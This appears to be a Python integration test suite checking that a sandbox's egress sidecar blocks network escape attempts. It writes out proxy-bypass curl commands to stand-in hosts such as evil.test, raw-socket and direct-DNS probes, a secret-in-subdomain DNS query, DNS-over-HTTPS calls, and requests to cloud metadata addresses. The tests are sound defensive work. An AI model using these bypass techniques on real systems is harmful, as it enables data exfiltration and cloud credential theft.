"""A1-A5, A7: reaching the network without the sidecar. Every script also runs outside, where it must work."""

from __future__ import annotations

import itertools
import os
from typing import TYPE_CHECKING

import pytest

from tests.attacks import inside
from tests.support.outside import BASE_PYTHON, new_marker

if TYPE_CHECKING:
    from tests.support.lab import Lab, RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

_numbers = itertools.count(2)

_DIRECT = "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy"

# name -> (script, the reason on record, or "" where there is no route that could lead to a record)
A1 = {
    "noproxy-option": ("curl -sS -m 5 --noproxy '*' https://{m}.evil.test/", "host_not_allowed"),
    "noproxy-plain-http": ("curl -sS -m 5 --noproxy '*' http://{m}.evil.test/", "host_not_allowed"),
    "unset-variables": (f"{_DIRECT} curl -sS -m 5 https://{{m}}.evil.test/", "host_not_allowed"),
    "NO_PROXY-star": ("NO_PROXY='*' no_proxy='*' curl -sS -m 5 https://{m}.evil.test/", "host_not_allowed"),
    "empty-ALL_PROXY": (
        "ALL_PROXY= all_proxy= HTTPS_PROXY= https_proxy= curl -sS -m 5 https://{m}.evil.test/",
        "host_not_allowed",
    ),
    "empty-proxy-option": ("curl -sS -m 5 --proxy '' https://{m}.evil.test/", "host_not_allowed"),
    "own-proxy": ("curl -sS -m 5 --proxy http://203.0.113.50:3128 http://{m}.evil.test/", ""),
    "honours-the-proxy": ("curl -sS -m 5 https://{m}.evil.test/", "host_not_allowed"),
}


def new_address(version: int = 4) -> str:
    """Give a public address that no other test uses."""
    number = next(_numbers)
    return f"45.33.{number // 250}.{number % 250 + 1}" if version == 4 else f"2606:4700:dead::{number:x}"


def outside_python(world: World, code: str) -> None:
    """Run an attack's Python where nothing stands in its way."""
    world.run([BASE_PYTHON, "-I", "-S", "-"], stdin=(inside.PRELUDE + code).encode())


def test_a1_proxy_variables_do_not_matter(bottle: RunningBottle, world: World, lab: Lab) -> None:
    controls, markers = ({name: new_marker("a1") for name in A1} for _ in range(2))
    world.run(["sh", "-c", "\n".join(A1[name][0].format(m=m) for name, m in controls.items())])
    for name, control in controls.items():
        assert world.reached(control), f"{name}: the control did not get out, so this attack proves nothing"
    bottle.sh("\n".join(A1[name][0].format(m=marker) for name, marker in markers.items()), timeout=60)
    for name, marker in markers.items():
        reason = A1[name][1]
        if lab.machine_image and name != "honours-the-proxy":
            reason = ""  # no name resolves in a machine, so there is nowhere to ask
        assert world.reached(marker) == [], name
        assert [line["reason"] for line in bottle.denied(marker)] == ([reason] if reason else []), name


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_a1_an_allowed_host_works_for_clients_of_both_kinds(
    bottle: RunningBottle, world: World, scheme: str
) -> None:
    for number, option in enumerate(("", "--noproxy '*'")):
        marker = new_marker("a1")
        result = bottle.sh(f"curl -sS -m 5 {option} {scheme}://allowed.test/{marker}")
        assert result.json()["target"] == f"/{marker}", result.err
        assert any(seen.target == f"/{marker}" for seen in world.records().requests), number


def test_a1_both_kinds_of_client_read_the_same_refusal(bottle: RunningBottle, lab: Lab) -> None:
    via_proxy = bottle.sh("curl -sS -m 5 https://same-words.evil.test/").json()
    there = f"--resolve same-words.evil.test:443:{lab.sidecar_address}"
    direct = bottle.sh(f"curl -sS -m 5 --noproxy '*' {there} https://same-words.evil.test/").json()
    assert via_proxy == direct
    assert via_proxy["reason"] == "host_not_allowed"
    assert via_proxy["next_step"]


@pytest.mark.parametrize("option", ["", "--noproxy '*'"])
def test_a2_resolve_to_an_address_of_the_attacker(bottle: RunningBottle, world: World, option: str) -> None:
    control, address, marker = new_address(), new_address(), new_marker("a2")
    script = "curl -sS -m 5 {option} --resolve allowed.test:443:{address} https://allowed.test/{marker}"
    world.run(["sh", "-c", script.format(option="--noproxy '*'", address=control, marker=marker)])
    assert (control, 443) in world.records().accepted
    bottle.sh(script.format(option=option, address=address, marker=marker))
    assert (address, 443) not in world.records().accepted
    assert world.records().packets_to(address) == frozenset()


@pytest.mark.parametrize("option", ["", "--noproxy '*'"])
def test_a2_connect_to_another_name_under_an_allowed_one(
    bottle: RunningBottle, world: World, option: str
) -> None:
    control, marker = new_marker("a2"), new_marker("a2")
    script = "curl -sS -m 5 {option} --connect-to allowed.test:443:{m}.evil.test:443 https://allowed.test/"
    world.run(["sh", "-c", script.format(option="--noproxy '*'", m=control)])
    assert world.reached(control)
    bottle.sh(script.format(option=option, m=marker))
    assert world.reached(marker) == []


A3 = {
    "tcp-443": "s = socket.create_connection((address, 443)); s.sendall(b'{m}')",
    "tcp-22": "s = socket.create_connection((address, 22)); s.sendall(b'SSH-2.0-{m}\\r\\n')",
    "udp-443-quic": "s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'{m}', (address, 443))",
    "udp-53": "s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'{m}', (address, 53))",
    "udp-9999": "s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'{m}', (address, 9999))",
    "icmp": "s = socket.socket(family, socket.SOCK_RAW, icmp); s.sendto(b'\\x08\\0\\0\\0{m}', (address, 0))",
    "raw-ip": "s = socket.socket(family, socket.SOCK_RAW, 253); s.sendto(b'{m}', (address, 0))",
    "sctp": "s = socket.socket(family, socket.SOCK_STREAM, 132); s.connect((address, 443))",
}
_NEEDS_ROOT_OUTSIDE = {"icmp", "raw-ip"}


@pytest.mark.parametrize("version", [4, 6])
def test_a3_a4_no_protocol_has_a_route(bottle: RunningBottle, world: World, lab: Lab, version: int) -> None:
    def script(addresses: dict[str, str]) -> str:
        family, icmp = ("AF_INET", 1) if version == 4 else ("AF_INET6", 58)
        tries = "".join(
            f"address = {addresses[name]!r}\n"
            f"try:\n    {code.format(m='data')}\n    found[{name!r}] = 'sent'\n"
            f"except OSError as error:\n    found[{name!r}] = str(error)\n"
            for name, code in A3.items()
        )
        return f"found = {{}}; family = socket.{family}; icmp = {icmp}\n{tries}tell(**found)\n"

    controls, addresses = ({name: new_address(version) for name in A3} for _ in range(2))
    outside_python(world, script(controls))
    found = inside.run(bottle, script(addresses))
    assert found.keys() == A3.keys()
    for name in A3:
        if name != "sctp" and (os.getuid() == 0 or name not in _NEEDS_ROOT_OUTSIDE):
            assert world.records().packets_to(controls[name]), f"{name}: the control did not get out"
        if not lab.machine_image:  # a machine's card takes what leads nowhere behind it
            assert found[name] != "sent", name
        assert world.records().packets_to(addresses[name]) == frozenset(), name


@pytest.mark.parametrize("option", ["", "--noproxy '*'"])
def test_a4_ipv6_literals_are_no_way_around(bottle: RunningBottle, world: World, option: str) -> None:
    control, address, marker = new_address(6), new_address(6), new_marker("a4")
    world.run(["sh", "-c", f"curl -sS -m 5 -g --noproxy '*' http://[{control}]/"])
    assert world.records().packets_to(control)
    bottle.sh(
        f"curl -sS -m 5 -g {option} http://[{address}]/{marker}; curl -sSk -m 5 -g {option} https://[{address}]/"
    )
    assert world.records().packets_to(address) == frozenset()
    assert world.reached(marker) == []
    if not option:
        assert {line["reason"] for line in bottle.denied(address)} == {"host_not_allowed"}


def test_a4_only_loopback_exists(bottle: RunningBottle) -> None:
    found = inside.run(
        bottle,
        "tell(names=[name for _, name in socket.if_nameindex()], routes=open('/proc/net/route').read(),"
        " routes6=[line.split()[-1] for line in open(six)]"
        " if os.path.exists(six := '/proc/net/ipv6_route') else [])",
    )
    assert found["names"] == ["lo"]
    assert len(found["routes"].splitlines()) <= 1
    assert set(found["routes6"]) <= {"lo"}


_QUERY = """
def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", kind, 1)

def udp(server, name, kind=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(query(name, kind), (server, 53))
        return sock.recv(4096)

def tcp(server, name, kind=1):
    with socket.create_connection((server, 53)) as sock:
        data = query(name, kind)
        sock.sendall(struct.pack("!H", len(data)) + data)
        return sock.recv(4096)[2:]

def records(reply):
    return struct.unpack_from("!H", reply, 6)[0]
"""


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_a5_no_other_resolver_is_reached(bottle: RunningBottle, world: World, transport: str) -> None:
    control, marker = new_marker("a5"), new_marker("a5")
    script = _QUERY + "{transport}('8.8.8.8', '{m}.evil.test')"
    outside_python(world, script.replace("{transport}", transport).replace("{m}", control))
    assert world.reached(control)
    result = bottle.py(inside.PRELUDE + script.replace("{transport}", transport).replace("{m}", marker))
    assert result.returncode != 0
    assert world.reached(marker) == []


@pytest.mark.parametrize("transport", ["udp", "tcp"])
@pytest.mark.parametrize("parent", ["evil.test", "wild.test", "allowed.test"])
def test_a5_the_bottles_own_resolver_forwards_nothing(
    bottle: RunningBottle, world: World, transport: str, parent: str
) -> None:
    marker = new_marker("a5")
    found = inside.run(
        bottle,
        f"{_QUERY}\nreply = {transport}('127.0.0.1', name)\n"
        "tell(records=records(reply), tail=list(reply[-4:]))",
        name=f"c2VjcmV0.{marker}.{parent}",
    )
    assert found == {"records": 1, "tail": [127, 0, 0, 1]}
    assert world.reached(marker) == []
    assert [line["event"] for line in bottle.decisions(marker)] == ["dns"]


@pytest.mark.parametrize(("name", "kind"), [("TXT", 16), ("MX", 15), ("NULL", 10), ("CNAME", 5), ("SRV", 33)])
def test_a5_other_types_get_an_empty_answer(
    bottle: RunningBottle, world: World, name: str, kind: int
) -> None:
    marker = new_marker("a5")
    code = (
        f"{_QUERY}\nreply = udp('127.0.0.1', name, {kind})\ntell(records=records(reply), rcode=reply[3] & 15)"
    )
    assert inside.run(bottle, code, name=f"{marker}.allowed.test") == {"records": 0, "rcode": 0}, name
    assert world.reached(marker) == []


def test_a5_egress_never_looks_up_a_name_it_denies(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("a5")
    bottle.sh(
        f"curl -sS -m 5 https://{marker}.evil.test/; curl -sS -m 5 http://{marker}.evil.test/;"
        f" curl -sS -m 5 https://{marker}.wild.test:8443/; curl -sS -m 5 https://{marker}.api.test/"
    )
    assert world.reached(marker) == []
    reasons = [line["reason"] for line in bottle.denied(marker)]
    assert sorted(reasons) == ["host_not_allowed", "host_not_allowed", "host_not_allowed", "port_not_allowed"]


def test_a5_an_allowed_name_is_looked_up_by_egress(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("a5")
    bottle.sh(f"curl -sS -m 5 https://{marker}.wild.test/")
    assert any("DNS question" in place for place in world.reached(marker))


@pytest.mark.parametrize(
    "target", ["https://dns.google/dns-query", "https://1.1.1.1/dns-query", "https://allowed.test:853/"]
)
def test_a5_dns_over_https_and_tls(bottle: RunningBottle, world: World, target: str) -> None:
    marker = new_marker("a5")
    options = ("", "--noproxy '*'")
    bottle.sh("; ".join(f"curl -sSk -m 5 {option} '{target}?dns={marker}'" for option in options))
    assert world.reached(marker) == []


_METADATA = ("169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "metadata.google.internal")


@pytest.mark.parametrize("host", _METADATA)
def test_a7_metadata_addresses_and_names(bottle: RunningBottle, world: World, host: str) -> None:
    control, marker = new_marker("a7"), new_marker("a7")
    world.run(["sh", "-c", f"curl -sS -g -m 5 http://{host}/latest/{control}"])
    assert world.reached(control)
    options = ("", "--noproxy '*'")
    bottle.sh("; ".join(f"curl -sS -g -m 5 {option} http://{host}/latest/{marker}" for option in options))
    assert world.reached(marker) == []
    assert bottle.denied(marker)


@pytest.mark.parametrize("address", ["169.254.169.254", "100.100.100.200", "fd00:ec2::254"])
def test_a7_metadata_behind_an_allowed_name_even_if_allowlisted(
    bottle: RunningBottle, world: World, address: str
) -> None:
    marker = new_marker("a7")
    world.call("dns", name="meta.test", answers=[[address]])
    answer = bottle.sh(f"curl -sS -m 5 https://meta.test/{marker}").json()
    assert answer["error"] == "bot_bottle_denied"
    assert world.reached(marker) == []
    assert (address, 443) not in world.records().accepted  # controls of the test above went to port 80
    (line,) = bottle.denied(marker)
    assert line["reason"] == answer["reason"]
